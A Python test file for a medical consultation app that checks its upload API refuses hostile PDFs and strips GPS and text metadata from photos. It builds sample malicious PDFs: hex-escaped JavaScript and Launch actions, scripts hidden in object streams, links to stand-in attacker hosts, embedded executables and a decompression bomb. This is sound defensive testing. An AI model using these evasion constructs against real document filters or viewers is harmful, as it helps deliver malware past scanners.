"""Attachments are cleaned, not only checked (issue 8, item 9).

Hostile PDFs, built here with pikepdf the way an attacker would (names hex-escaped in
the file's bytes, actions packed in compressed object streams, web links and form
submissions run at opening, embedded executables, XFA forms), are uploaded through the
real API and each refused with a reason that names what it carries. A byte search for
``/JavaScript`` missed the first two kinds and knew nothing of the others.

Photos are re-encoded before they are sealed: a JPEG carrying its GPS position and a
PNG carrying text come back through the API without them, upright and whole.
"""

from __future__ import annotations

import io
import json
import struct
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import ExifTags, Image, PngImagePlugin

from hippocrate.consultations import pdfs
from tests.consultations.helpers import QUESTIONNAIRE, Actor, Api, assert_problem, pdf_bytes

Build = Callable[[Pdf], None]


# -- hostile PDFs ----------------------------------------------------------------------


def make_pdf(
    build: Build, *, object_streams: bool = False, raw: dict[bytes, bytes] | None = None
) -> bytes:
    """A one-page PDF that ``build`` changes. With ``object_streams``, every object that
    may be is packed in a compressed object stream. ``raw`` replaces bytes in the saved
    file: placeholders of the same length as their hex-escaped spelling, so the
    cross-reference offsets stay right."""
    pdf = Pdf.new()
    pdf.add_blank_page()
    build(pdf)
    out = io.BytesIO()
    pdf.save(
        out,
        object_stream_mode=(
            pikepdf.ObjectStreamMode.generate
            if object_streams
            else pikepdf.ObjectStreamMode.disable
        ),
        compress_streams=object_streams,
    )
    content = out.getvalue()
    for placeholder, spelling in (raw or {}).items():
        assert len(placeholder) == len(spelling)
        assert placeholder in content
        content = content.replace(placeholder, spelling)
    return content


def open_action(**action: Any) -> Build:
    def build(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**action))

    return build


def page_action(**action: Any) -> Build:
    """An action run when the first page opens (the page's additional actions)."""

    def build(pdf: Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(Dictionary(**action)))

    return build


def annotation(**fields: Any) -> Build:
    def build(pdf: Pdf) -> None:
        annot = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 60, 60]), **fields)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])

    return build


def embedded_file(pdf: Pdf) -> None:
    pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program")


def file_attachment_annotation(pdf: Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program", filename="lisez-moi.exe")
    annotation(Subtype=Name.FileAttachment, FS=spec.obj, Contents=String("ouvrez-moi"))(pdf)


def xfa_form(pdf: Pdf) -> None:
    template = pikepdf.Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(template))


def javascript_name_tree(pdf: Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def rich_media(pdf: Pdf) -> None:
    content = Dictionary(Assets=Dictionary(Names=Array()), Configurations=Array())
    annotation(Subtype=Name.RichMedia, RichMediaContent=content)(pdf)


def encrypted(user: str) -> bytes:
    pdf = Pdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="proprietaire", user=user, R=6))
    return out.getvalue()


def orphan_script() -> bytes:
    """A JavaScript action that nothing references, in an incremental update: visible
    to any reader that walks the file's objects, invisible from the catalog."""
    base = make_pdf(lambda pdf: None)
    size = int(pikepdf.open(io.BytesIO(base)).trailer.Size)
    start = base.rindex(b"startxref")
    previous = int(base[start:].split()[1])
    offset = len(base)
    update = b"%d 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" % size
    xref = offset + len(update)
    update += b"xref\n%d 1\n%010d 00000 n \n" % (size, offset)
    update += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + 1,
        previous,
        xref,
    )
    return base + update


JS = "app.alert('pwned')"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    # Today's byte search misses these two: no /JavaScript, /JS or /Launch in the bytes.
    "hex-escaped JavaScript": (
        lambda: make_pdf(
            open_action(S=Name("/Jx61vaScript"), Jx53=String(JS)),
            raw={b"/Jx61vaScript": b"/J#61vaScript", b"/Jx53": b"/J#53"},
        ),
        "PDF files with JavaScript are refused",
    ),
    "hex-escaped Launch": (
        lambda: make_pdf(
            page_action(S=Name("/Lx61unch"), F=String("C:\\Windows\\System32\\cmd.exe")),
            raw={b"/Lx61unch": b"/L#61unch"},
        ),
        "PDF files with launch actions (Launch) are refused",
    ),
    "JavaScript in an object stream": (
        lambda: make_pdf(open_action(S=Name.JavaScript, JS=String(JS)), object_streams=True),
        "PDF files with JavaScript are refused",
    ),
    "Launch in an object stream": (
        lambda: make_pdf(page_action(S=Name.Launch, F=String("calc.exe")), object_streams=True),
        "PDF files with launch actions (Launch) are refused",
    ),
    "URI open action": (
        lambda: make_pdf(open_action(S=Name.URI, URI=String("https://phish.example/login"))),
        "PDF files with web link actions (URI) are refused",
    ),
    "SubmitForm open action": (
        lambda: make_pdf(
            open_action(S=Name.SubmitForm, F=String("https://collect.example/"), Flags=4)
        ),
        "PDF files with form submission actions (SubmitForm) are refused",
    ),
    "ImportData open action": (
        lambda: make_pdf(open_action(S=Name.ImportData, F=String("donnees.fdf"))),
        "PDF files with data import actions (ImportData) are refused",
    ),
    "GoToR link": (
        lambda: make_pdf(
            annotation(
                Subtype=Name.Link,
                A=Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf")),
            )
        ),
        "PDF files with actions that open another file (GoToR) are refused",
    ),
    "GoToE open action": (
        lambda: make_pdf(open_action(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf")))),
        "PDF files with actions that open an embedded file (GoToE) are refused",
    ),
    "JavaScript name tree": (
        lambda: make_pdf(javascript_name_tree),
        "PDF files with JavaScript are refused",
    ),
    "orphan JavaScript object": (orphan_script, "PDF files with JavaScript are refused"),
    "embedded file": (lambda: make_pdf(embedded_file), "PDF files with embedded files are refused"),
    "embedded file in an object stream": (
        lambda: make_pdf(embedded_file, object_streams=True),
        "PDF files with embedded files are refused",
    ),
    "FileAttachment annotation": (
        lambda: make_pdf(file_attachment_annotation),
        "PDF files with embedded files are refused",
    ),
    "XFA form": (lambda: make_pdf(xfa_form), "PDF files with XFA forms are refused"),
    "RichMedia annotation": (lambda: make_pdf(rich_media), "PDF files with rich media are refused"),
    "encrypted, empty user password": (
        lambda: encrypted(user=""),
        "encrypted PDF files are refused",
    ),
    "encrypted, with a password": (
        lambda: encrypted(user="secret"),
        "encrypted PDF files are refused",
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_pdf_carrying_active_content_is_refused_with_its_reason(
    sqlite_api: Api, kind: str
) -> None:
    build, reason = HOSTILE[kind]
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "resultats.pdf", build(), "application/pdf")

    problem = assert_problem(response, 422)
    assert problem["detail"] == f"file 1 refused: {reason}"


def test_a_benign_pdf_with_internal_links_and_metadata_is_accepted(sqlite_api: Api) -> None:
    """The control: links inside the document, an outline, document information and
    the catalog's base URI are not active content, and such a PDF is stored as sent."""

    def build(pdf: Pdf) -> None:
        pdf.add_blank_page()
        second = pdf.pages[1].obj
        annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit])))(pdf)
        pdf.Root.URI = Dictionary(Base=String("https://labo.example/"))
        with pdf.open_metadata() as meta:
            meta["dc:title"] = "Bilan sanguin"
        pdf.docinfo["/Producer"] = "Laboratoire"

    content = make_pdf(build, object_streams=True)
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "bilan.pdf", content, "application/pdf")

    assert response.status_code == 201, response.text
    assert download(sqlite_api, patient, response) == content


def test_a_pdf_the_parser_cannot_read_is_refused(sqlite_api: Api) -> None:
    # A trailer and cross-reference that check out, and no document behind them.
    body = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\n"
    xref = len(body)
    damaged = body + (
        b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
        b"trailer\n<< /Size 2 /Root 7 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "bilan.pdf", damaged, "application/pdf")

    assert assert_problem(response, 422)["detail"] == (
        "file 1 refused: the PDF is damaged and cannot be read"
    )


def test_a_pdf_the_parser_has_to_repair_is_refused(sqlite_api: Api) -> None:
    """Viewers repair a damaged file each their own way: what one finds, the parser may
    have missed. Here one cross-reference entry points a few bytes off its object."""
    whole = pdf_bytes("Compte rendu")
    table = whole.index(b"\nxref\n")
    entry = whole.index(b" 00000 n \n", table) - 10  # object 1's offset
    offset = int(whole[entry : entry + 10])
    damaged = whole[:entry] + b"%010d" % (offset + 4) + whole[entry + 10 :]
    assert len(damaged) == len(whole)
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "bilan.pdf", damaged, "application/pdf")

    assert assert_problem(response, 422)["detail"] == (
        "file 1 refused: the PDF is damaged (a reader would have to repair it)"
    )


def flood(size: int) -> Build:
    """An object that a few kilobytes of an object stream inflate to ``size`` bytes."""

    def build(pdf: Pdf) -> None:
        pdf.Root.Filler = pdf.make_indirect(Dictionary(X=String(b"A" * size)))

    return build


def test_a_pdf_whose_object_stream_inflates_past_the_limit_is_refused(sqlite_api: Api) -> None:
    bomb = make_pdf(flood(24 * 1024 * 1024), object_streams=True)
    assert len(bomb) < 64 * 1024
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "bilan.pdf", bomb, "application/pdf")

    assert assert_problem(response, 422)["detail"] == (
        "file 1 refused: the PDF is damaged and cannot be read"
    )


def test_the_object_streams_of_one_file_share_one_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    packed = make_pdf(flood(4096), object_streams=True)
    assert pdfs.refusal(packed) is None
    monkeypatch.setattr(pdfs, "OBJECT_STREAMS_MAX_BYTES", 4096)

    assert pdfs.refusal(packed) == "the PDF is damaged and cannot be read"


# -- photos ----------------------------------------------------------------------------

PARIS = {  # a GPS position, as a phone writes it: Notre-Dame de Paris
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (48.0, 51.0, 11.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (2.0, 20.0, 59.0),
}


def phone_photo() -> bytes:
    """A 60 x 40 JPEG, left half red and right half blue, as a phone held sideways
    stores it: EXIF with the GPS position, the device, and orientation 6 (shown turned
    90° clockwise, so 40 x 60, red on top); an XMP packet and a comment too."""
    image = Image.new("RGB", (60, 40), (220, 30, 30))
    image.paste((30, 30, 220), (30, 0, 60, 40))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Telephone"
    exif[ExifTags.Base.Model] = "Modele 12"
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.GPSInfo] = PARIS
    out = io.BytesIO()
    image.save(
        out,
        format="JPEG",
        quality=95,
        exif=exif,
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">Rue du Cloitre</x:xmpmeta>',
        comment=b"chez moi",
    )
    return out.getvalue()


def test_a_photo_comes_back_without_its_exif_gps_and_upright(sqlite_api: Api) -> None:
    sent = phone_photo()
    with Image.open(io.BytesIO(sent)) as original:  # the control: all of it is there
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert original.info.get("comment") == b"chez moi"
        assert b"Rue du Cloitre" in sent
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "bras.jpg", sent, "image/jpeg")

    assert response.status_code == 201, response.text
    received = download(sqlite_api, patient, response)
    with Image.open(io.BytesIO(received)) as photo:
        assert photo.format == "JPEG"
        assert len(photo.getexif()) == 0
        assert "exif" not in photo.info
        assert not {"comment", "xmp", "icc_profile", "photoshop"} & set(photo.info)
        # Upright: the orientation was applied to the pixels, red on top.
        assert photo.size == (40, 60)
        rgb = photo.convert("RGB")
        top, bottom = rgb.getpixel((20, 10)), rgb.getpixel((20, 50))
    assert isinstance(top, tuple)
    assert isinstance(bottom, tuple)
    assert top[0] > 180, top
    assert top[2] < 80, top
    assert bottom[2] > 180, bottom
    assert bottom[0] < 80, bottom
    for trace in (b"Exif", b"Telephone", b"Rue du Cloitre", b"chez moi"):
        assert trace not in received


def photo_with_broken_exif() -> bytes:
    """A JPEG whose EXIF says orientation 6 and then names a maker whose text lies past
    the end of the block, as a badly written camera or an attacker leaves it."""
    entries = [
        (ExifTags.Base.Orientation, 3, 1, struct.pack("<HH", 6, 0)),
        (ExifTags.Base.Make, 2, 400, struct.pack("<I", 5000)),
    ]
    ifd = struct.pack("<H", len(entries))
    ifd += b"".join(
        struct.pack("<HHI", tag, kind, count) + value for tag, kind, count, value in entries
    )
    exif = b"Exif\x00\x00II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0)
    out = io.BytesIO()
    Image.new("RGB", (60, 40), (200, 30, 30)).save(out, format="JPEG", exif=exif)
    return out.getvalue()


def test_a_photo_with_a_malformed_exif_block_is_cleaned_not_refused(sqlite_api: Api) -> None:
    patient = sqlite_api.patient()

    response = open_with_file(
        sqlite_api, patient, "dos.jpg", photo_with_broken_exif(), "image/jpeg"
    )

    assert response.status_code == 201, response.text
    with Image.open(io.BytesIO(download(sqlite_api, patient, response))) as photo:
        assert len(photo.getexif()) == 0
        assert photo.size == (40, 60)  # the orientation it could read was applied


def test_a_png_comes_back_without_its_text_chunks(sqlite_api: Api) -> None:
    image = Image.new("RGBA", (32, 24), (10, 200, 90, 255))
    image.putpixel((3, 4), (0, 0, 0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Dr Quincampoix")
    info.add_text("Comment", "Dr Quincampoix, cabinet", zip=True)
    info.add_itxt("Description", "Dr Quincampoix, épaule gauche")
    out = io.BytesIO()
    image.save(out, format="PNG", pnginfo=info)
    sent = out.getvalue()
    assert b"Dr Quincampoix" in sent
    patient = sqlite_api.patient()

    response = open_with_file(sqlite_api, patient, "schema.png", sent, "image/png")

    assert response.status_code == 201, response.text
    received = download(sqlite_api, patient, response)
    assert b"Dr Quincampoix" not in received
    for chunk in (b"tEXt", b"iTXt", b"zTXt"):
        assert chunk not in received
    with Image.open(io.BytesIO(received)) as png, Image.open(io.BytesIO(sent)) as original:
        assert png.format == "PNG"
        assert png.text == {}
        # Lossless: the same pixels, transparency included.
        assert png.mode == original.mode
        assert png.tobytes() == original.tobytes()


# -- the API calls ---------------------------------------------------------------------


def open_with_file(api: Api, patient: Actor, name: str, content: bytes, media_type: str) -> Any:
    consultation = {
        "specialty": "general-practice",
        "subject": "Résultats",
        "description": "Ci-joint.",
        "questionnaire": QUESTIONNAIRE,
    }
    return api.client.post(
        "/api/v1/consultations",
        headers=patient.headers,
        data={"consultation": json.dumps(consultation)},
        files=[("files", (name, content, media_type))],
    )


def download(api: Api, patient: Actor, opened: Any) -> bytes:
    consultation = api.client.get(
        f"/api/v1/consultations/{opened.json()['id']}/messages", headers=patient.headers
    ).json()
    (attachment,) = consultation["items"][0]["attachments"]
    response = api.client.get(f"/api/v1/attachments/{attachment['id']}", headers=patient.headers)
    assert response.status_code == 200, response.text
    assert attachment["size"] == len(response.content)
    return response.content


def test_the_demo_pdf_still_passes(sqlite_api: Api) -> None:
    patient = sqlite_api.patient()
    content = pdf_bytes("Compte rendu")
    response = open_with_file(sqlite_api, patient, "cr.pdf", content, "application/pdf")
    assert response.status_code == 201, response.text
    assert download(sqlite_api, patient, response) == content
